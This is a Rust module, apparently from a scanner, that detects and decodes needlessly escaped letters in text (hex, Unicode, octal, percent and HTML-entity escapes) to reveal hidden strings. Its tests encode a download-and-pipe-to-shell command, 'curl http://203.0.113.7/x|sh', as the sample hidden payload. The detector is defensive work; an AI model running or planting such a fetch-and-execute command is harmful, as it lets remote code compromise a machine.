//! Letters that are written as escapes: `\x63`, `\u0063`, `\143`, `%63`, `&#99;`.
//!
//! Escapes have honest uses: signs that a format reserves, letters of other scripts, colours of
//! a terminal. Nobody has to escape a plain letter, so those are counted.

use std::ops::Range;

use super::Finds;
use crate::scan::layer::budget::TEXT_BYTES;

/// Plain letters that are escaped, from which on a place is decoded.
const NEEDLESS_ESCAPES: usize = 3;
/// Bytes between two escapes of one place: the letters that stand for themselves.
const GAP_BYTES: usize = 48;
/// Bytes before the first escape and after the last that still belong to the string.
const STRING_BYTES: usize = 200;

/// A way to write an escape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Family {
    Backslash,
    Percent,
    Entity,
}

struct Escape {
    family: Family,
    value: u32,
    /// Whether the value is a byte of UTF-8 rather than a character.
    is_byte: bool,
    length: usize,
}

/// Finds the places of `text` where plain letters are escaped.
pub(super) fn find(text: &str, finds: &mut Finds) {
    let bytes = text.as_bytes();
    let mut place: Option<(Family, Range<usize>, usize)> = None;
    let mut skip_to = 0;
    for at in memchr::memchr3_iter(b'\\', b'%', b'&', bytes) {
        if at < skip_to {
            continue;
        }
        let Some(escape) = escape_at(&bytes[at..]) else { continue };
        skip_to = at + escape.length;
        let is_needless = char::from_u32(escape.value).is_some_and(|letter| letter.is_ascii_alphanumeric());
        match &mut place {
            Some((family, span, count))
                if *family == escape.family
                    && at - span.end <= GAP_BYTES
                    && (at == span.end || memchr::memchr(b'\n', &bytes[span.end..at]).is_none()) =>
            {
                span.end = skip_to;
                *count += usize::from(is_needless);
            }
            _ => {
                if let Some(done) = place.take() {
                    decode(text, done, finds);
                }
                place = Some((escape.family, at..skip_to, usize::from(is_needless)));
            }
        }
    }
    if let Some(done) = place {
        decode(text, done, finds);
    }
}

fn decode(text: &str, (family, span, count): (Family, Range<usize>, usize), finds: &mut Finds) {
    if count < NEEDLESS_ESCAPES {
        return;
    }
    let span = string_around(text, span);
    let cut = text.floor_char_boundary((span.start + TEXT_BYTES * 4).min(span.end));
    finds.is_cut |= cut < span.end;
    let bytes = text[span.start..cut].as_bytes();
    let mut decoded = Vec::with_capacity(bytes.len() / 2);
    let mut at = 0;
    while at < bytes.len() {
        match escape_at(&bytes[at..]).filter(|escape| escape.family == family) {
            Some(escape) if escape.is_byte && escape.value < 256 => {
                decoded.push(escape.value as u8);
                at += escape.length;
            }
            Some(escape) => {
                let character = char::from_u32(escape.value).unwrap_or(char::REPLACEMENT_CHARACTER);
                decoded.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
                at += escape.length;
            }
            None => {
                decoded.push(bytes[at]);
                at += 1;
            }
        }
    }
    let decoded = String::from_utf8_lossy(&decoded).into_owned();
    let is_text = decoded.chars().filter(|character| character.is_control()).count() * 10 <= decoded.chars().count();
    if is_text {
        let step = match family {
            Family::Backslash => "backslash escapes",
            Family::Percent => "percent encoding",
            Family::Entity => "character references",
        };
        finds.push(span, step, decoded);
    }
}

/// Widens a place to the string that holds it: up to the next quotation mark or line end.
fn string_around(text: &str, span: Range<usize>) -> Range<usize> {
    let ends = |character: char| matches!(character, '\n' | '"' | '\'' | '`' | '<' | '>');
    let from = text.ceil_char_boundary(span.start.saturating_sub(STRING_BYTES));
    let to = text.floor_char_boundary(span.end.saturating_add(STRING_BYTES).min(text.len()));
    let start = text[from..span.start].rfind(ends).map_or(from, |at| from + at + 1);
    let end = text[span.end..to].find(ends).map_or(to, |at| span.end + at);
    start..end
}

fn escape_at(bytes: &[u8]) -> Option<Escape> {
    let backslash = |value, is_byte, length| Some(Escape { family: Family::Backslash, value, is_byte, length });
    match bytes {
        [b'\\', b'x' | b'X', rest @ ..] => backslash(digits(rest, 2, 16)?, true, 4),
        [b'\\', b'u' | b'U', b'{', rest @ ..] => {
            let length = rest.iter().take(7).position(|byte| *byte == b'}')?;
            backslash(digits(rest, length, 16)?, false, length + 4)
        }
        [b'\\', b'U', rest @ ..] => backslash(digits(rest, 8, 16)?, false, 10),
        [b'\\', b'u', rest @ ..] => backslash(digits(rest, 4, 16)?, false, 6),
        // Octal with a leading zero has four digits in some languages.
        [b'\\', b'0', b'0'..=b'3', b'0'..=b'7', b'0'..=b'7', ..] => backslash(digits(&bytes[2..], 3, 8)?, true, 5),
        [b'\\', b'0'..=b'3', b'0'..=b'7', b'0'..=b'7', ..] => backslash(digits(&bytes[1..], 3, 8)?, true, 4),
        [b'%', rest @ ..] => {
            Some(Escape { family: Family::Percent, value: digits(rest, 2, 16)?, is_byte: true, length: 3 })
        }
        [b'&', b'#', rest @ ..] => {
            let length = rest.iter().take(9).position(|byte| *byte == b';')?;
            let value = match rest {
                [b'x' | b'X', hexadecimal @ ..] => digits(hexadecimal, length.checked_sub(1)?, 16)?,
                _ => digits(rest, length, 10)?,
            };
            Some(Escape { family: Family::Entity, value, is_byte: false, length: length + 3 })
        }
        _ => None,
    }
}

fn digits(bytes: &[u8], count: usize, radix: u32) -> Option<u32> {
    let digits = std::str::from_utf8(bytes.get(..count)?).ok()?;
    let is_plain = count > 0 && digits.bytes().all(|digit| digit.is_ascii_alphanumeric());
    is_plain.then(|| u32::from_str_radix(digits, radix).ok()).flatten()
}

#[cfg(test)]
mod tests {
    use super::super::find_all;

    fn written(payload: &str, one: impl Fn(u32) -> String) -> String {
        payload.chars().map(|character| one(character as u32)).collect()
    }

    #[test]
    fn every_escape_is_read() {
        let payload = "curl http://203.0.113.7/x|sh";
        let rows = [
            written(payload, |value| format!("\\x{value:02x}")),
            written(payload, |value| format!("\\u{value:04x}")),
            written(payload, |value| format!("\\u{{{value:x}}}")),
            written(payload, |value| format!("\\{value:03o}")),
            written(payload, |value| format!("%{value:02X}")),
            written(payload, |value| format!("&#{value};")),
            written(payload, |value| format!("&#x{value:x};")),
            payload.replace('u', "\\x75").replace('h', "\\x68"),
        ];
        for text in rows {
            let finds = find_all(&format!("run('{text}')"));
            assert_eq!(finds.texts.iter().map(|found| found.text.as_str()).collect::<Vec<_>>(), [payload], "{text}");
        }
    }

    #[test]
    fn honest_escapes_are_no_layer() {
        let rows = [
            r"\u00e9t\u00e9, \u4f60\u597d, \u2014 and \u2026",
            r"\x1b[31mred\x1b[0m \x1b[1mbold\x1b[0m",
            "https://a.example/a%20b%2Fc%3Fd%20e%20f",
            "Tom &#38; Jerry&#39;s &#8212; &#160;",
            r"[\x00-\x1f\x7f-\x9f]",
            r"C:\users\name\x",
        ];
        for text in rows {
            assert_eq!(find_all(text).texts, [], "{text}");
        }
    }
}
